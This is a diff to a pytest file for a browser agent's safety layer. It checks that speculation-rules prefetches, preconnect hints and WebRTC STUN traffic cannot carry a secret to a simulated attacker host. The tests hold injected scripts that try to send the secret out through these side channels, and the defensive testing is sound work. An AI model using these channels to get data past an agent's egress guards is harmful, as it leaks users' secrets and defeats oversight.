@@ -172,15 +172,43 @@ SPECULATION_JS = """([a, v]) => { const s = document.createElement('script'); s.
   document.head.append(s); }"""
 
 
-async def test_speculation_rules_cannot_prefetch_a_secret_elsewhere(guarded, hostile):
-    """The browser process makes speculative prefetches and prerenders itself: no route sees them."""
+async def test_speculation_rules_and_preconnects_reach_nobody(guarded, hostile):
+    """The browser process makes speculative prefetches and prerenders itself: no route sees them, whether the rules
+    come in a script or in a `Speculation-Rules` response header (which must not drop the page's cookies). A
+    `<link rel=preconnect>` opens a socket no route sees either: Chromium drops such hints in the off-the-record
+    contexts webagent uses (a regression guard: the listener counts any connection, as the image below shows)."""
     import asyncio
-    await guarded.page.evaluate(SPECULATION_JS, [hostile.attacker.url, SECRET])
-    for _ in range(15):  # a prefetch goes out within milliseconds; give it a moment to show up
-        if hostile.attacker.hits:
-            break
-        await asyncio.sleep(0.1)
-    assert hostile.attacker.hits == []
+    import socket
+    import threading
+    listener = socket.create_server(("127.0.0.2", 0))
+    accepted: list[int] = []
+
+    def accept() -> None:
+        while True:
+            try:
+                conn, _ = listener.accept()
+            except OSError:  # closed at the end of the test
+                return
+            accepted.append(1)
+            conn.close()
+    threading.Thread(target=accept, daemon=True).start()
+    try:
+        await guarded.goto(f"{hostile.url}/spec-header?pre={listener.getsockname()[1]}")
+        await guarded.page.evaluate(SPECULATION_JS, [hostile.attacker.url, SECRET])
+        for _ in range(15):  # a prefetch or a preconnect goes out within milliseconds; give it a moment to show up
+            if hostile.attacker.hits or accepted:
+                break
+            await asyncio.sleep(0.1)
+        assert hostile.attacker.hits == [] and accepted == []
+        assert {c["name"] for c in await guarded.context.cookies()} >= {"one", "two"}
+        await guarded.page.evaluate("(u) => { new Image().src = u; }", f"http://127.0.0.2:{listener.getsockname()[1]}/")
+        for _ in range(50):
+            if accepted:
+                break
+            await asyncio.sleep(0.02)
+        assert accepted  # the listener does see a connection when one is made
+    finally:
+        listener.close()
 
 
 HEADER_JS = """async ([a, v]) => { const out = [];
@@ -232,3 +260,40 @@ async def test_the_har_keeps_every_context_of_an_episode(guarded, hostile, tmp_p
     urls = [e["request"]["url"] for e in json.loads(har.read_text())["log"]["entries"]]
     assert [u.split("=")[-1] for u in urls if "context=" in u] == ["one", "two", "three"], urls
     assert [p.name for p in tmp_path.iterdir()] == ["network.har"]
+
+
+RTC_JS = """async (stun) => {
+  if (typeof RTCPeerConnection === 'undefined') return 'absent';
+  const pc = new RTCPeerConnection({iceServers: [{urls: stun}]});
+  pc.createDataChannel('x');
+  await pc.setLocalDescription(await pc.createOffer());
+  await new Promise((done) => { setTimeout(done, 3000);
+    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') done(); }; });
+  pc.close(); return 'gathered'; }"""
+
+
+async def test_webrtc_sends_no_udp_and_is_gone_with_secrets(guarded, hostile):
+    """WebRTC opens its own sockets, which no route sees: a STUN server at the attacker (UDP) hears nothing, and a
+    run with secrets has no RTCPeerConnection at all, in the page, a new frame or a popup (TURN over TCP would still
+    connect without a proxy)."""
+    import socket
+
+    from webagent.safety import Secrets
+    assert await guarded.page.evaluate(RTC_JS, "stun:127.0.0.2:9") == "absent"
+    kinds = await guarded.page.evaluate("""() => { const f = document.createElement('iframe'); document.body.append(f);
+      const w = window.open('about:blank'); const out = [typeof webkitRTCPeerConnection,
+      typeof f.contentWindow.RTCPeerConnection, w ? typeof w.RTCPeerConnection : 'no popup']; if (w) w.close();
+      return out; }""")
+    assert kinds == ["undefined"] * 3, kinds
+    guarded.secrets = Secrets()  # no secrets: the constructor stays, its UDP does not go out
+    await guarded.new_context()
+    await guarded.goto(hostile.url + "/")
+    stun = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    stun.bind(("127.0.0.2", 0))
+    stun.setblocking(False)
+    try:
+        assert await guarded.page.evaluate(RTC_JS, f"stun:127.0.0.2:{stun.getsockname()[1]}") == "gathered"
+        with pytest.raises(BlockingIOError):
+            stun.recvfrom(2048)  # nothing arrived
+    finally:
+        stun.close()
